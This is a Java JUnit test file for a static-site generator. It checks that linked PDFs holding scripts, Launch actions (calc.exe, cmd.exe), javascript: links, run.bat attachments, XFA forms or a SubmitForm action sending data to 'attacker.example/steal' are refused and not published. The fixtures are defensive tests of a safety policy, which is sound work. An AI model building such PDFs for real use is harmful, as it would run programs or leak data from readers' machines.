package casebook.security;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import casebook.booklet.BookletFont;
import casebook.diag.Diagnostic;
import casebook.pipeline.Build;
import casebook.pipeline.BuildOptions;
import casebook.pipeline.BuildResult;
import casebook.safety.PdfPolicy;
import casebook.safety.UrlPolicy;
import casebook.testing.SiteFixture;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionNamed;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionRemoteGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDDocumentOutline;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A PDF linked from a page is published only when nothing in it runs (issue 13): PDFs built here with PDFBox,
 * one for each place a script, a program launch, a form submission, another file or an attachment can hide,
 * are each an error at the link that asks for them and are not published; a PDF with only links (https, a
 * place in the PDF, next page) is published as it is; the booklets casebook makes pass the same check.
 */
class ScriptedPdfTest {
    @TempDir
    Path tmp;

    private static final String RULE = PdfPolicy.RULE + " (fix: " + PdfPolicy.HINT + ")";

    /** Each refused PDF of the fixture, with what the message must say it holds. */
    private static Map<String, String> refused() {
        Map<String, String> m = new LinkedHashMap<>();
        m.put("open-js.pdf", "it holds a JavaScript action (when the document opens); " + RULE);
        m.put(
                "names-js.pdf",
                "it holds document-level JavaScript (a JavaScript name tree); a JavaScript action (in the document's names);"
                        + " "
                        + RULE);
        m.put("launch.pdf", "it holds a Launch action, which runs a program (in an annotation on page 1); " + RULE);
        m.put(
                "uri-js.pdf",
                "it holds a link to \"javascript:app.alert(1)\" (in an annotation on page 1; " + UrlPolicy.RULE + "); "
                        + RULE);
        m.put(
                "attached.pdf",
                "it holds embedded files, attachments (the document's EmbeddedFiles name tree); an embedded file, an"
                        + " attachment (in the document's names); " + RULE);
        m.put("page-aa.pdf", "it holds a JavaScript action (on page 2, on page open); " + RULE);
        m.put(
                "submit.pdf",
                "it holds a SubmitForm action, which sends form data (in an annotation on page 1); " + RULE);
        m.put("remote.pdf", "it holds a GoToR action, which opens another file (in the bookmarks); " + RULE);
        m.put("field-aa.pdf", "it holds a JavaScript action (in a form, on keystroke); " + RULE);
        m.put("xfa.pdf", "it holds an XFA form; " + RULE);
        m.put("chained.pdf", "it holds a Launch action, which runs a program (in an annotation on page 1); " + RULE);
        m.put(
                "encrypted.pdf",
                "it is encrypted (protected by a password or with restrictions), so casebook cannot check it for scripts"
                        + " (fix: " + PdfPolicy.ENCRYPTED_HINT + ")");
        return m;
    }

    @Test
    void aPdfThatHoldsAnythingButLinksIsAnErrorAtItsLinkAndIsNotPublished() throws IOException {
        Path content = fixture();
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("clean.pdf", clean());
        files.put("open-js.pdf", pdf(1, doc -> doc.getDocumentCatalog().setOpenAction(js("app.alert(1)"))));
        files.put("names-js.pdf", pdf(1, doc -> {
            PDJavascriptNameTreeNode tree = new PDJavascriptNameTreeNode();
            tree.setNames(Map.of("start", js("app.alert(2)")));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
            names.setJavascript(tree);
            doc.getDocumentCatalog().setNames(names);
        }));
        files.put("launch.pdf", pdf(1, doc -> {
            PDActionLaunch launch = new PDActionLaunch();
            launch.setF("calc.exe");
            link(doc.getPage(0), launch);
        }));
        files.put("uri-js.pdf", pdf(1, doc -> link(doc.getPage(0), uri("javascript:app.alert(1)"))));
        files.put("attached.pdf", pdf(1, doc -> {
            PDEmbeddedFile ef = embedded(doc);
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("run.bat");
            spec.setEmbeddedFile(ef);
            PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(Map.of("run.bat", spec));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            doc.getDocumentCatalog().setNames(names);
        }));
        files.put("page-aa.pdf", pdf(2, doc -> {
            PDPageAdditionalActions aa = new PDPageAdditionalActions();
            aa.setO(js("app.alert(3)"));
            doc.getPage(1).setActions(aa);
        }));
        files.put("submit.pdf", pdf(1, doc -> {
            PDActionSubmitForm submit = new PDActionSubmitForm();
            PDComplexFileSpecification to = new PDComplexFileSpecification();
            to.setFile("https://attacker.example/steal");
            submit.setFile(to);
            link(doc.getPage(0), submit);
        }));
        files.put("remote.pdf", pdf(1, doc -> {
            PDActionRemoteGoTo remote = new PDActionRemoteGoTo();
            PDComplexFileSpecification other = new PDComplexFileSpecification();
            other.setFile("../../other.pdf");
            remote.setFile(other);
            PDDocumentOutline outline = new PDDocumentOutline();
            PDOutlineItem item = new PDOutlineItem();
            item.setTitle("other");
            item.setAction(remote);
            outline.addLast(item);
            doc.getDocumentCatalog().setDocumentOutline(outline);
        }));
        files.put("field-aa.pdf", pdf(1, doc -> {
            PDAcroForm form = new PDAcroForm(doc);
            COSDictionary field = new COSDictionary();
            field.setItem(COSName.FT, COSName.getPDFName("Tx"));
            field.setString(COSName.T, "name");
            COSDictionary aa = new COSDictionary();
            aa.setItem(COSName.K, js("app.alert(4)"));
            field.setItem(COSName.AA, aa);
            COSArray fields = new COSArray();
            fields.add(field);
            form.getCOSObject().setItem(COSName.FIELDS, fields);
            doc.getDocumentCatalog().setAcroForm(form);
        }));
        files.put("xfa.pdf", pdf(1, doc -> {
            PDAcroForm form = new PDAcroForm(doc);
            COSStream xfa = doc.getDocument().createCOSStream();
            form.getCOSObject().setItem(COSName.getPDFName("XFA"), xfa);
            doc.getDocumentCatalog().setAcroForm(form);
        }));
        files.put("chained.pdf", pdf(1, doc -> {
            // a harmless link whose /Next runs a program
            PDActionURI first = uri("https://example.org/");
            PDActionLaunch launch = new PDActionLaunch();
            launch.setF("calc.exe");
            List<PDAction> next = new ArrayList<>();
            next.add(launch);
            first.setNext(next);
            link(doc.getPage(0), first);
        }));
        files.put("encrypted.pdf", encrypted());
        StringBuilder links = new StringBuilder();
        for (Map.Entry<String, byte[]> f : files.entrySet()) {
            Files.write(content.resolve("a").resolve(f.getKey()), f.getValue());
            links.append("[").append(f.getKey()).append("](").append(f.getKey()).append(")\n\n");
        }
        page(content, links.toString());

        BuildResult r = inMemory(content);

        String m = SiteFixture.messages(r);
        Map<String, String> expected = refused();
        List<String> names = new ArrayList<>(files.keySet());
        for (Map.Entry<String, String> e : expected.entrySet()) {
            int line = LINKS_FROM + 2 * names.indexOf(e.getKey());
            String at = "index.ja.md:" + line + ":1: error: link \"" + e.getKey() + "\": the PDF ";
            Diagnostic d = SiteFixture.errors(r).stream()
                    .filter(x -> x.toString().contains(at))
                    .findFirst()
                    .orElseThrow(() -> new AssertionError(at + "\n" + m));
            String text = d.toString();
            assertTrue(
                    text.endsWith("a/" + e.getKey() + " is not published: " + e.getValue()),
                    () -> "expected …" + e.getValue() + "\nwas " + text);
        }
        // each refused PDF: its own error, once (the link to it is not reported again as a link to nothing)
        assertEquals(expected.size(), SiteFixture.errors(r).size(), m);
        assertFalse(m.contains("does not resolve"), m);
        assertTrue(r.diagnostics().hasErrors());
        assertFalse(m.contains("Exception"), m);
        for (String name : expected.keySet()) {
            assertFalse(r.output().contains("ja/a/" + name), name);
        }
        assertArrayEquals(files.get("clean.pdf"), r.output().get("ja/a/clean.pdf"), "a PDF with only links is kept");
    }

    @Test
    void aRefusedPdfLeavesThePreviousSiteUntouched() throws IOException {
        Path content = fixture();
        Path out = tmp.resolve("site");
        byte[] clean = clean();
        Files.write(content.resolve("a/clean.pdf"), clean);
        page(content, "[報告書](clean.pdf)\n");
        BuildResult first = SiteFixture.build(content, out);
        assertEquals(List.of(), SiteFixture.errors(first), SiteFixture.messages(first));
        assertEquals(0, first.diagnostics().warningCount(), SiteFixture.messages(first));
        assertArrayEquals(clean, Files.readAllBytes(out.resolve("ja/a/clean.pdf")));
        byte[] page = Files.readAllBytes(out.resolve("ja/a/index.html"));

        // the editor replaces the PDF with one that opens a script, and links a second one that launches a program
        Files.write(
                content.resolve("a/clean.pdf"),
                pdf(1, doc -> doc.getDocumentCatalog().setOpenAction(js("app.alert(1)"))));
        Files.write(content.resolve("a/run.pdf"), pdf(1, doc -> {
            PDActionLaunch launch = new PDActionLaunch();
            launch.setF("cmd.exe");
            doc.getDocumentCatalog().setOpenAction(launch);
        }));
        page(content, "[報告書](clean.pdf)\n\n本文の [run](run.pdf)\n");
        BuildResult second = SiteFixture.build(content, out);

        String m = SiteFixture.messages(second);
        assertTrue(m.contains("index.ja.md:" + LINKS_FROM + ":1: error: link \"clean.pdf\": the PDF "), m);
        assertTrue(m.contains("index.ja.md:" + (LINKS_FROM + 2) + ":5: error: link \"run.pdf\": the PDF "), m);
        assertTrue(
                m.contains("run.pdf is not published: it holds a Launch action, which runs a program (when the"
                        + " document opens)"),
                m);
        assertArrayEquals(clean, Files.readAllBytes(out.resolve("ja/a/clean.pdf")), "the old site is untouched");
        assertArrayEquals(page, Files.readAllBytes(out.resolve("ja/a/index.html")));
        assertFalse(Files.exists(out.resolve("ja/a/run.pdf")));
    }

    @Test
    void anUnreadablePdfIsAnErrorAtItsLinkWithoutAStackTrace() throws IOException {
        Path content = fixture();
        byte[] noise = new byte[20_000];
        new Random(13).nextBytes(noise);
        byte[] whole = clean();
        byte[] cut = new byte[whole.length / 3];
        System.arraycopy(whole, 0, cut, 0, cut.length);
        Files.write(content.resolve("a/empty.pdf"), "%PDF-1.4\n%%EOF\n".getBytes(StandardCharsets.US_ASCII));
        Files.write(content.resolve("a/noise.pdf"), noise);
        Files.write(
                content.resolve("a/word.pdf"), "PK\u0003\u0004 a renamed office file".getBytes(StandardCharsets.UTF_8));
        page(content, "[a](empty.pdf)\n\n[b](noise.pdf)\n\n[c](word.pdf)\n");

        BuildResult r = inMemory(content);

        String m = SiteFixture.messages(r);
        for (String name : List.of("empty.pdf", "noise.pdf", "word.pdf")) {
            assertTrue(m.contains("error: link \"" + name + "\": the PDF "), () -> name + "\n" + m);
            assertFalse(r.output().contains("ja/a/" + name), name);
        }
        assertTrue(m.contains("empty.pdf is not published: it cannot be read as a PDF ("), m);
        assertTrue(m.contains("so casebook cannot check it for scripts (fix: " + PdfPolicy.UNREADABLE_HINT + ")"), m);
        assertFalse(m.contains("Exception:") || m.contains("\tat "), m);
        assertEquals(3, SiteFixture.errors(r).size(), m);
        assertFalse(m.contains("does not resolve"), m);
    }

    @Test
    void theWorkIsBoundedOnManyPagesAndOnLongOrCircularActionChains() throws IOException {
        // 3,000 pages, each with a link to the next page and one to a web page
        byte[] many = pdf(3000, doc -> {
            for (int i = 0; i < doc.getNumberOfPages(); i++) {
                PDActionGoTo go = new PDActionGoTo();
                PDPageFitDestination dest = new PDPageFitDestination();
                dest.setPage(doc.getPage((i + 1) % doc.getNumberOfPages()));
                go.setDestination(dest);
                link(doc.getPage(i), go);
                link(doc.getPage(i), uri("https://example.org/" + i));
            }
        });
        long started = System.nanoTime();
        PdfPolicy.Verdict v = PdfPolicy.check(many);
        assertTrue(v.publishable(), v::toString);
        assertTrue(System.nanoTime() - started < 20_000_000_000L, "3,000 pages are checked in seconds");

        // a chain of 5,000 /Next actions that loops back on itself, with a script at its far end
        byte[] chain = pdf(1, doc -> {
            List<PDActionNamed> actions = new ArrayList<>();
            for (int i = 0; i < 5000; i++) {
                PDActionNamed a = new PDActionNamed();
                a.setN("NextPage");
                actions.add(a);
            }
            for (int i = 0; i + 1 < actions.size(); i++) {
                actions.get(i).getCOSObject().setItem(COSName.NEXT, actions.get(i + 1));
            }
            COSArray last = new COSArray();
            last.add(js("app.alert(5)"));
            last.add(actions.get(0));
            actions.get(actions.size() - 1).getCOSObject().setItem(COSName.NEXT, last);
            doc.getDocumentCatalog().setOpenAction(actions.get(0));
        });
        PdfPolicy.Verdict looped = PdfPolicy.check(chain);
        assertEquals(List.of("a JavaScript action (when the document opens)"), looped.found(), looped::toString);
        assertEquals(null, looped.problem());

        // more findings than a message names
        byte[] noisy = pdf(8, doc -> {
            for (int i = 0; i < 8; i++) {
                PDPageAdditionalActions aa = new PDPageAdditionalActions();
                aa.setO(js("app.alert(" + i + ")"));
                doc.getPage(i).setActions(aa);
            }
        });
        PdfPolicy.Verdict eight = PdfPolicy.check(noisy);
        assertEquals(8, eight.found().size(), eight::toString);
        assertTrue(
                eight.foundList().endsWith("a JavaScript action (on page 5, on page open); and 3 more"),
                eight.foundList());
    }

    @Test
    void theBookletsCasebookMakesPassTheSameCheck() throws IOException {
        Assumptions.assumeTrue(BookletFont.find(null) != null, "no TrueType Japanese font: " + BookletFont.INSTALL);
        Path content = SiteFixture.write(
                tmp.resolve("content"),
                "-- site.yaml --\n" + SiteFixture.SITE_YAML
                        + "pdf: book\norder: [a, b]\n"
                        + "-- a/index.ja.md --\n---\ntitle: 事例A\n---\n## 概要\n\n本文は [省のサイト](https://www.example.go.jp/)"
                        + " と [事例B](../b/) と [連絡](mailto:info@example.go.jp)。\n"
                        + "-- a/index.en.md --\n---\ntitle: Case A\n---\n## Summary\n\nSee [the ministry](https://www.example.go.jp/)"
                        + " and [case B](../b/).\n"
                        + "-- b/index.ja.md --\n---\ntitle: 事例B\n---\n本文は [事例A の概要](../a/#概要) です。\n"
                        + "-- b/index.en.md --\n---\ntitle: Case B\n---\nBack to [case A](../a/).\n");
        Path out = tmp.resolve("site");
        BuildResult r = SiteFixture.build(content, out);
        assertEquals(List.of(), SiteFixture.errors(r), SiteFixture.messages(r));
        for (String lang : List.of("ja", "en")) {
            byte[] booklet = Files.readAllBytes(out.resolve(lang + "/book.pdf"));
            List<String> uris = uris(booklet);
            assertTrue(uris.contains("https://www.example.go.jp/"), () -> lang + ": " + uris);
            PdfPolicy.Verdict v = PdfPolicy.check(booklet);
            assertTrue(v.publishable(), () -> lang + ": " + v);
        }
        // and the booklets of the published site, when it has them
        Path site = Path.of("site");
        if (Files.isDirectory(site)) {
            try (Stream<Path> walk = Files.walk(site, 2)) {
                for (Path p : walk.filter(f -> f.toString().endsWith(".pdf")).toList()) {
                    PdfPolicy.Verdict v = PdfPolicy.check(Files.readAllBytes(p));
                    assertTrue(v.publishable(), () -> p + ": " + v);
                }
            }
        }
    }

    // ---- the fixture

    /** The line of the page's first link (the body starts after the front matter and one paragraph). */
    private static final int LINKS_FROM = 6;

    private Path fixture() {
        return SiteFixture.write(
                tmp.resolve("content"),
                "-- site.yaml --\n" + SiteFixture.SITE_YAML + "order: [a]\n"
                        + "-- a/index.ja.md --\n---\ntitle: 事例\n---\n本文です。\n");
    }

    /** A build kept in memory, so that what would have been published can be looked at. */
    private BuildResult inMemory(Path content) {
        return Build.run(BuildOptions.defaults()
                .withContent(content)
                .withOut(tmp.resolve("site"))
                .withWrite(false));
    }

    private static void page(Path content, String links) throws IOException {
        Files.writeString(
                content.resolve("a/index.ja.md"), "---\ntitle: 事例\n---\n本文です。\n\n" + links, StandardCharsets.UTF_8);
    }

    private interface Edit {
        void apply(PDDocument doc) throws IOException;
    }

    private static final byte[] ONE_PAGE = pdf(1, doc -> {});

    /** A PDF of one empty page, the same bytes at every call (for tests that publish a PDF). */
    static byte[] onePage() {
        return ONE_PAGE.clone();
    }

    /** A PDF of {@code pages} empty pages, changed by {@code edit}. */
    private static byte[] pdf(int pages, Edit edit) {
        try (PDDocument doc = new PDDocument()) {
            for (int i = 0; i < pages; i++) {
                doc.addPage(new PDPage(PDRectangle.A4));
            }
            edit.apply(doc);
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            doc.save(bytes, CompressParameters.NO_COMPRESSION); // PDFBox's object-stream writer recurses
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Two pages: a link to a web page, a link to page 2, a bookmark to page 2, a "next page" link. */
    private static byte[] clean() {
        return pdf(2, doc -> {
            PDActionGoTo go = new PDActionGoTo();
            PDPageFitDestination dest = new PDPageFitDestination();
            dest.setPage(doc.getPage(1));
            go.setDestination(dest);
            link(doc.getPage(0), uri("https://www.example.go.jp/report/"));
            link(doc.getPage(0), go);
            PDActionNamed next = new PDActionNamed();
            next.setN("NextPage");
            link(doc.getPage(0), next);
            PDDocumentOutline outline = new PDDocumentOutline();
            PDOutlineItem item = new PDOutlineItem();
            item.setTitle("2");
            item.setDestination(dest);
            outline.addLast(item);
            doc.getDocumentCatalog().setDocumentOutline(outline);
            PDActionGoTo open = new PDActionGoTo();
            open.setDestination(dest);
            doc.getDocumentCatalog().setOpenAction(open);
        });
    }

    private static byte[] encrypted() {
        return pdf(1, doc -> {
            AccessPermission none = new AccessPermission();
            none.setCanPrint(false);
            StandardProtectionPolicy p = new StandardProtectionPolicy("owner", "", none);
            p.setEncryptionKeyLength(128);
            doc.protect(p);
        });
    }

    /** The addresses of the URI actions of a PDF's link annotations. */
    private static List<String> uris(byte[] pdf) throws IOException {
        List<String> uris = new ArrayList<>();
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            for (PDPage p : doc.getPages()) {
                for (PDAnnotation a : p.getAnnotations()) {
                    if (a instanceof PDAnnotationLink l && l.getAction() instanceof PDActionURI u) {
                        uris.add(u.getURI());
                    }
                }
            }
        }
        return uris;
    }

    private static PDActionJavaScript js(String code) {
        return new PDActionJavaScript(code);
    }

    private static PDActionURI uri(String url) {
        PDActionURI a = new PDActionURI();
        a.setURI(url);
        return a;
    }

    private static void link(PDPage page, PDAction action) throws IOException {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(50, 50, 100, 20));
        link.setAction(action);
        List<PDAnnotation> annotations = new ArrayList<>(page.getAnnotations());
        annotations.add(link);
        page.setAnnotations(annotations);
    }

    private static PDEmbeddedFile embedded(PDDocument doc) throws IOException {
        PDEmbeddedFile ef =
                new PDEmbeddedFile(doc, new ByteArrayInputStream("calc.exe".getBytes(StandardCharsets.US_ASCII)));
        ef.setSubtype("application/octet-stream");
        return ef;
    }
}
